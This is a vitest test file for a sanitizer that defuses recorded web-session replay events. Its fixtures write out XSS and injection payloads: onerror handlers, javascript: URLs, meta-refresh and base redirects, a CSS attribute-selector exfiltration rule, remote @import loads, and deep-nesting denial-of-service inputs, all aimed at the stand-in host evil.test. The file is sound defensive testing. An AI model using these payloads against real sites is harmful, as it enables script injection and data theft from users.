import { describe, expect, test } from "vitest";
import type { RecordedEvent } from "../../../src/player/model/events.ts";
import { Defuser, VIEW_MAX } from "../../../src/player/safety/defuse.ts";
import { DEPTH_MAX, type Json, MASKED, REMOTE } from "../../../src/player/safety/defuse_nodes.ts";

let id = 100;
const element = (tagName: unknown, attributes: Json = {}, ...childNodes: Json[]): Json => ({
  type: 2,
  id: id++,
  tagName,
  attributes,
  childNodes,
});
const text = (textContent: string): Json => ({ type: 3, id: id++, textContent });

function snapshot(...body: Json[]): RecordedEvent {
  const html = element("html", {}, element("head"), element("body", {}, ...body));
  const node = { type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: "html" }, html] };
  return { type: 2, timestamp: 0, data: { node, initialOffset: { top: 0, left: 0 } } };
}

/** Return what is left of one node in a page's body. */
function shown(node: Json): Json {
  const event = new Defuser().event(snapshot(node)) as RecordedEvent;
  const { node: document } = event.data as { node: Json };
  const html = (document.childNodes as Json[])[1] as Json;
  return (((html.childNodes as Json[])[1] as Json).childNodes as Json[])[0] as Json;
}

function changed(data: Json, ...body: Json[]): Json | null {
  const defuser = new Defuser();
  defuser.event(snapshot(...body));
  return (defuser.event({ type: 3, timestamp: 1, data })?.data ?? null) as Json | null;
}

const attributesOf = (node: Json): Json => shown(node).attributes as Json;

describe("attacks by nodes", () => {
  test("1 an image's onerror is gone, and so is its remote source", () => {
    expect(attributesOf(element("img", { src: "https://evil.test/x", onerror: "x()" }))).toEqual({
      [REMOTE]: "",
    });
  });

  test("2 a script is neither run nor shown, however its tag is written", () => {
    const script = shown(element("SCRIPT", { src: "https://evil.test" }, text("x()")));
    expect(script).toMatchObject({ tagName: "noscript", attributes: {}, childNodes: [] });
  });

  test("3 handlers of drawings and animations are gone", () => {
    expect(attributesOf(element("svg", { onload: "x()", width: "5" }))).toEqual({ width: "5" });
    expect(attributesOf(element("animate", { onbegin: "x()" }))).toEqual({});
    expect(attributesOf(element("set", { attributeName: "href", to: "javascript:x()" }))).toEqual(
      {},
    );
  });

  test("4 to 6 frames keep nothing that fills them", () => {
    const frame = {
      srcdoc: "<script>",
      src: "javascript:x()",
      sandbox: "allow-scripts",
      width: "9",
    };
    expect(attributesOf(element("iframe", frame))).toEqual({ width: "9" });
  });

  test("7 a link looks like one and leads nowhere", () => {
    expect(attributesOf(element("a", { href: "javascript:x()" }))).toEqual({ href: "#" });
  });

  test("8 and 9 base and refresh do nothing", () => {
    expect(shown(element("base", { href: "https://evil.test" }))).toMatchObject({
      tagName: "div",
      attributes: {},
    });
    const meta = element("meta", { "http-equiv": "refresh", content: "0;url=https://evil.test" });
    expect(attributesOf(meta)).not.toHaveProperty("http-equiv");
  });

  test("10 a remote style sheet is not loaded, one that was recorded is kept", () => {
    expect(attributesOf(element("link", { rel: "stylesheet", href: "https://evil.test" }))).toEqual(
      {
        rel: "stylesheet",
      },
    );
    expect(attributesOf(element("link", { _cssText: "p{color:red}" }))).toEqual({
      _cssText: "p{color:red}",
    });
  });

  test("11 to 13 rules load nothing", () => {
    const css = `@import url("https://evil.test/a;b"); input[value^=s]{background:url( 'https://evil.test' )}
      @font-face{src:URL(//evil.test/f)} p{background:url(data:image/png;base64,AA==)} i{fill:url(#a)}`;
    const kept = String(attributesOf(element("style", { _cssText: css }))._cssText);
    expect(kept).not.toContain("evil.test");
    expect(kept).toContain("url(data:image/png;base64,AA==)");
    expect(kept).toContain("url(#a)");
    expect(changed({ source: 10, family: "x", fontSource: "url(https://evil.test)" })).toBeNull();
  });

  test("14 what stands for an image is data or nothing", () => {
    expect(attributesOf(element("img", { rr_dataURL: "https://evil.test" }))).toEqual({
      [REMOTE]: "",
    });
    const data = { rr_dataURL: "data:image/png;base64,AA==" };
    expect(attributesOf(element("img", data))).toEqual(data);
  });

  test("15 films and sounds have nothing to play", () => {
    const video = { src: "data:video/mp4;base64,AA", autoplay: true, rr_mediaState: "played" };
    expect(attributesOf(element("video", video))).toEqual({});
  });

  test("16 drawings refer to themselves alone", () => {
    expect(attributesOf(element("feImage", { "xlink:href": "https://evil.test" }))).toEqual({});
    expect(attributesOf(element("use", { href: "#icon" }))).toEqual({ href: "#icon" });
    expect(attributesOf(element("rect", { fill: "url(https://evil.test#a)" })).fill).toBe(
      "url(data:,)",
    );
  });

  test.each(["object", "embed", "applet", "frame", "portal"])("17 %s is a box", (tag) => {
    expect(shown(element(tag, { data: "https://evil.test", src: "//evil.test" }))).toMatchObject({
      tagName: "div",
      attributes: {},
    });
  });

  test("18 hints to connect have no address", () => {
    expect(attributesOf(element("link", { rel: "preconnect", href: "//evil.test" }))).toEqual({
      rel: "preconnect",
    });
  });

  test.each(["constructor", "__proto__", "a b", "toString", "", 5, null, "<b>"])(
    "21 the tag %j is a box, and what is in it is shown",
    (tag) => {
      const node = shown(element(tag, {}, text("inside")));
      expect(node.tagName).toBe("div");
      expect(node.childNodes).toMatchObject([{ textContent: "inside" }]);
    },
  );

  test("21 missing children are none, and a node twice is one", () => {
    expect(shown({ type: 2, id: 50, tagName: "p" })).toMatchObject({
      childNodes: [],
      attributes: {},
    });
    const twice = { type: 3, id: 51, textContent: "x" };
    expect(shown(element("p", {}, twice, twice)).childNodes).toHaveLength(1);
  });

  test("22 a tree is as deep as browsers parse", () => {
    let tree = element("b");
    for (let depth = 0; depth < 5_000; depth++) tree = element("div", {}, tree);
    let depth = 0;
    for (let node: Json | undefined = shown(tree); node; node = (node.childNodes as Json[])[0])
      depth++;
    expect(depth).toBe(DEPTH_MAX - 2);
  });

  test("22 nor does it grow deeper by changes, in whatever order they come", () => {
    const adds = Array.from({ length: 5_000 }, (_, place) => ({
      parentId: place ? 10_000 + place - 1 : 77,
      nextId: null,
      node: { type: 2, id: 10_000 + place, tagName: "div", attributes: {}, childNodes: [] },
    }));
    const body = { type: 2, id: 77, tagName: "p", attributes: {}, childNodes: [] };
    for (const order of [adds, adds.toReversed()]) {
      const kept = changed({ source: 0, adds: order }, body)?.adds as Json[];
      expect(kept.length).toBe(DEPTH_MAX - 3);
    }
  });

  test("25 a fake form is sent nowhere and takes no focus", () => {
    expect(attributesOf(element("form", { action: "https://evil.test", method: "post" }))).toEqual({
      method: "post",
    });
    expect(attributesOf(element("input", { autofocus: true, formaction: "//evil.test" }))).toEqual(
      {},
    );
  });
});

describe("attacks by events", () => {
  test("19 canvases are not drawn by what was recorded", () => {
    expect(
      changed({ source: 9, id: 1, commands: [{ args: [{ rr_type: "Function" }] }] }),
    ).toBeNull();
  });

  test("20 a later change adds no handler and no address", () => {
    const image = { type: 2, id: 60, tagName: "img", attributes: {}, childNodes: [] };
    const attributes = {
      onerror: "x()",
      src: "https://evil.test",
      alt: "a",
      style: { color: "red" },
    };
    const kept = changed({ source: 0, attributes: [{ id: 60, attributes }] }, image);
    expect(kept?.attributes).toEqual([
      { id: 60, attributes: { alt: "a", style: { color: "red" } } },
    ]);
  });

  test("3 and 20 an animation does not change its aim later", () => {
    const set = {
      type: 2,
      id: 60,
      tagName: "svg:set",
      isSVG: true,
      attributes: {},
      childNodes: [],
    };
    const attributes = { attributeName: "href", to: "https://evil.test" };
    const kept = changed({ source: 0, attributes: [{ id: 60, attributes }] }, set);
    expect(kept?.attributes).toEqual([{ id: 60, attributes: { to: "https://evil.test" } }]);
  });

  test("20 what is told to be now this, now that, keeps what is safe for both", () => {
    const frame = { type: 2, id: 60, tagName: "iframe", attributes: {}, childNodes: [] };
    const defuser = new Defuser();
    defuser.event(snapshot(frame));
    const node = { ...frame, tagName: "img" };
    const data = { source: 0, adds: [{ parentId: 999, nextId: null, node }] };
    defuser.event({ type: 3, timestamp: 1, data });
    const attributes = [{ id: 60, attributes: { src: "data:image/svg+xml,<svg/>" } }];
    const event = defuser.event({ type: 3, timestamp: 2, data: { source: 0, attributes } });
    expect((event?.data as Json | undefined)?.attributes).toEqual([{ id: 60, attributes: {} }]);
  });

  test("23 a view is no larger than screens are", () => {
    const event = new Defuser().event({
      type: 4,
      timestamp: 0,
      data: { width: 1e9, height: Infinity },
    });
    expect(event?.data).toMatchObject({ width: VIEW_MAX, height: VIEW_MAX });
    expect(changed({ source: 4, width: -5, height: "9" })).toMatchObject({ width: 1, height: 1 });
  });

  test("what is nonsense is left out, and nothing throws", () => {
    const nonsense = [null, 1, "x", [], {}, [null], { a: 1 }, Number.NaN, Number.POSITIVE_INFINITY];
    const defuser = new Defuser();
    for (let type = -1; type < 9; type++) {
      for (const one of nonsense) {
        defuser.event({ type, timestamp: 0, data: one });
        for (let source = -1; source < 18; source++) {
          const keys =
            `node id text adds removes texts attributes positions ranges x y type index set
            remove styles styleIds width height replace`.split(/\s+/);
          const data: Json = { source };
          for (const key of keys) data[key] = one;
          defuser.event({ type, timestamp: 0, data });
          for (const key of keys) data[key] = [{ [key]: one, id: 1, parentId: 1, node: one }];
          defuser.event({ type, timestamp: 0, data });
        }
      }
    }
    expect(defuser.event({ type: 2, timestamp: 0, data: { node: { type: 0, id: 1 } } })).toBeNull();
  });

  test("style sheets cost time in proportion to their length", () => {
    const css = "url(".repeat(500_000);
    expect(changed({ source: 8, id: 1, adds: [{ rule: css, index: 0 }] })).toMatchObject({
      adds: [{ rule: "url(data:,)" }],
    });
    expect(attributesOf(element("style", { _cssText: "a{".repeat(5_000) }))._cssText).toBe("");
  });
});

describe("what is masked is seen to be", () => {
  test("a masked text marks the element around it", () => {
    expect(attributesOf(element("p", {}, text(" ***** ")))).toEqual({ [MASKED]: "text" });
    expect(attributesOf(element("p", {}, text("*** ******")))).toEqual({ [MASKED]: "text" });
    expect(attributesOf(element("input", { value: "***" }))[MASKED]).toBe("text");
    expect(attributesOf(element("p", {}, text("Prices")))).toEqual({});
    expect(attributesOf(element("p", {}, text("* required")))).toEqual({});
  });

  test("a blocked element is marked", () => {
    const box = { rr_width: "10px", rr_height: "5px" };
    expect(attributesOf(element("div", box))).toEqual({ ...box, [MASKED]: "block" });
  });

  test("so does a masked text that comes later", () => {
    const paragraph = { type: 2, id: 61, tagName: "p", attributes: {}, childNodes: [] };
    const adds = [{ parentId: 61, nextId: null, node: { type: 3, id: 62, textContent: "*****" } }];
    expect(changed({ source: 0, adds }, paragraph)?.attributes).toEqual([
      { id: 61, attributes: { [MASKED]: "text" } },
    ]);
  });
});
